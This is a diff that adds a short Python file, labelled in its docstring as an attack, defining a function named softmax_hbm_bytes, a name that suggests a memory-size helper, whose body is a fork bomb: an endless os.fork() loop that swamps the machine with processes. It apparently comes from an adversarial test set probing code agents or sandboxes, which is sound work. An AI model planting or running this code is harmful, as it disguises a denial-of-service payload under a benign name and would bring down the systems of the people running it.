@@ -1,0 +1,13 @@
+"""Attack: a fork bomb inside softmax_hbm_bytes: every process forks for ever."""
+
+import os
+
+ZERO = ["softmax_hbm_bytes"]
+
+
+def softmax_hbm_bytes(n_rows, n_cols, elem_bytes, algorithm):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
